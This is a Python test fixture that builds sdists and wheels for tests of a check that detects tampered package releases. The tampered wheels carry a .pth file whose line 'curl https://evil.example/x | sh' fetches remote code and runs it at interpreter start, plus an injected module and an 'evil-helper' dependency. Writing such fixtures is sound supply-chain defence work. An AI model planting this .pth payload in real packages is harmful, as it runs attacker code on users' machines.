"""Releases whose rebuild fails by the publisher's choice, and their wheels, honest and tampered: what an
attacker who controls the sdist, the wheels and whether the build fails can publish. Used by the unit tests
of the sources check (test_unbuilt_attacker.py) and by the end-to-end test in the container.

Three ways to make the build fail on purpose, each a real backend the sandbox runs: a meson-python project
whose meson.build stops at configure, a scikit-build-core project whose CMakeLists.txt does, and a setuptools
project whose setup.py raises (its egg-info, written when the sdist was made, still declares what it needs).
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

from tests.test_compare import PLACEHOLDER, wheel

VERSION = "1.0"
INIT = b'"""The package."""\n\nfrom .util import add\n'
UTIL = b"def add(a, b):\n    return a + b\n"
PTH = b"import os; os.system('curl https://evil.example/x | sh')\n"
HELPER = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"

_SYSTEM = '[build-system]\nrequires = ["{req}"]\nbuild-backend = "{backend}"\n'
_PROJECT = ('\n[project]\nname = "{{name}}"\nversion = "1.0"\ndescription = "a {what} build that fails at configure by its '
            'publisher\'s choice"\ndependencies = ["packaging>=20"]\n')
PYPROJECT = {
    "meson": _SYSTEM.format(req="meson-python>=0.15", backend="mesonpy") + _PROJECT.format(what="meson-python"),
    "skbuild": _SYSTEM.format(req="scikit-build-core>=0.10", backend="scikit_build_core.build")
    + _PROJECT.format(what="scikit-build-core"),
    "setuptools": _SYSTEM.format(req="setuptools>=61", backend="setuptools.build_meta"),
}

BUILD_FILES = {
    "meson": {"meson.build": "project('{name}', 'c', version: '1.0')\nerror('this build fails by its publisher\\'s choice')\n"},
    "skbuild": {"CMakeLists.txt": "cmake_minimum_required(VERSION 3.15)\nproject({name} C)\n"
                                  "message(FATAL_ERROR \"this build fails by its publisher's choice\")\n"},
    "setuptools": {"setup.py": "raise SystemExit('this build fails by its publisher\\'s choice')\n"},
}


def sdist_files(backend: str, name: str) -> dict[str, bytes]:
    """The sdist's files (paths below NAME-VERSION/)."""
    pkg = name.replace("-", "_")
    files = {
        "pyproject.toml": PYPROJECT[backend].format(name=name).encode(),
        f"{pkg}/__init__.py": INIT,
        f"{pkg}/util.py": UTIL,
        "tests/data/zz.pth": PTH,
        "tests/helper": HELPER,
        "README.md": b"demo\n",
    }
    files.update({k: v.format(name=name).encode() for k, v in BUILD_FILES[backend].items()})
    pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {VERSION}\n"
    if backend == "setuptools":  # what setuptools' sdist step wrote when the publisher made the sdist
        files[f"{pkg}.egg-info/PKG-INFO"] = pkg_info.encode()
        files[f"{pkg}.egg-info/requires.txt"] = b"packaging>=20\n"
        files[f"{pkg}.egg-info/SOURCES.txt"] = b""
    files["PKG-INFO"] = (pkg_info + ("Requires-Dist: packaging>=20\n" if backend != "setuptools" else "")).encode()
    return files


def write_sdist_dir(root: Path, backend: str, name: str) -> Path:
    src = root / f"{name}-{VERSION}"
    for rel, data in sdist_files(backend, name).items():
        (src / rel).parent.mkdir(parents=True, exist_ok=True)
        (src / rel).write_bytes(data)
    return src


def write_sdist(out_dir: Path, backend: str, name: str) -> Path:
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / f"{name.replace('-', '_')}-{VERSION}.tar.gz"
    top = f"{name.replace('-', '_')}-{VERSION}"
    with tarfile.open(path, "w:gz") as tf:
        for rel, data in sorted(sdist_files(backend, name).items()):
            info = tarfile.TarInfo(f"{top}/{rel}")
            info.size, info.mode, info.mtime = len(data), 0o644, 1700000000
            tf.addfile(info, io.BytesIO(data))
    return path


def _metadata(name: str, version: str = VERSION, extra: str = "") -> bytes:
    return (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nRequires-Dist: packaging>=20\n" + extra).encode()


def members(name: str, tag: str = "py3-none-any", metadata: bytes | None = None, extra=()) -> list:
    pkg, dist = name.replace("-", "_"), f"{name.replace('-', '_')}-{VERSION}"
    purelib = "true" if tag.endswith("none-any") else "false"
    return [(f"{pkg}/__init__.py", INIT, 0o644), (f"{pkg}/util.py", UTIL, 0o644), *extra,
            (f"{dist}.dist-info/METADATA", metadata or _metadata(name), 0o644),
            (f"{dist}.dist-info/WHEEL", f"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: {purelib}\nTag: {tag}\n".encode(),
             0o644),
            (f"{dist}.dist-info/RECORD", PLACEHOLDER, 0o644)]


# a tag per tamper, so that one release can publish every tampered wheel (this sandbox's, and other platforms')
TAGS = ("py3-none-any", "cp311-cp311-linux_x86_64", "cp311-cp311-manylinux_2_17_x86_64", "cp311-cp311-musllinux_1_2_x86_64",
        "cp311-cp311-win_amd64", "cp311-cp311-win32", "cp311-cp311-macosx_11_0_arm64", "cp311-cp311-macosx_10_9_x86_64",
        "cp311-abi3-win_amd64")


def tampers(name: str, tags=("py3-none-any",) * len(TAGS)) -> dict[str, tuple[list, str, str]]:
    """Each tamper: the wheel's members, the member that must be a difference of class code, and its tag."""
    pkg, dist = name.replace("-", "_"), f"{name.replace('-', '_')}-{VERSION}"
    evil = b"import os\nos.system('id')\n"
    cases = [
        ("top-level .pth", dict(extra=[("zz-evil.pth", PTH, 0o644)]), "zz-evil.pth"),
        (".pth in .data/purelib", dict(extra=[(f"{dist}.data/purelib/evil.pth", PTH, 0o644)]), f"{dist}.data/purelib/evil.pth"),
        (".pth in .data/platlib", dict(extra=[(f"{dist}.data/platlib/evil.pth", PTH, 0o644)]), f"{dist}.data/platlib/evil.pth"),
        ("added module", dict(extra=[(f"{pkg}/evil.py", evil, 0o644)]), f"{pkg}/evil.py"),
        ("script equal to a test file", dict(extra=[(f"{dist}.data/scripts/helper", HELPER, 0o755)]),
         f"{dist}.data/scripts/helper"),
        ("top-level .pth equal to a test file", dict(extra=[("zz.pth", PTH, 0o644)]), "zz.pth"),
        ("added Requires-Dist", dict(metadata=_metadata(name, extra="Requires-Dist: evil-helper>=1\n")),
         f"{dist}.dist-info/METADATA"),
        ("changed Version", dict(metadata=_metadata(name, version="1.0.post1", extra="Requires-Dist: evil-helper>=1\n")),
         f"{dist}.dist-info/METADATA"),
        ("two-part .data member", dict(extra=[(f"{dist}.data/evil.pth", PTH, 0o644)]), f"{dist}.data/evil.pth"),
    ]
    return {what: (members(name, tag=tag, **kw), member, tag) for (what, kw, member), tag in zip(cases, tags)}


def write_wheel(out_dir: Path, name: str, tag: str, wheel_members: list) -> Path:
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / f"{name.replace('-', '_')}-{VERSION}-{tag}.whl"
    wheel(path, members=wheel_members)
    return path
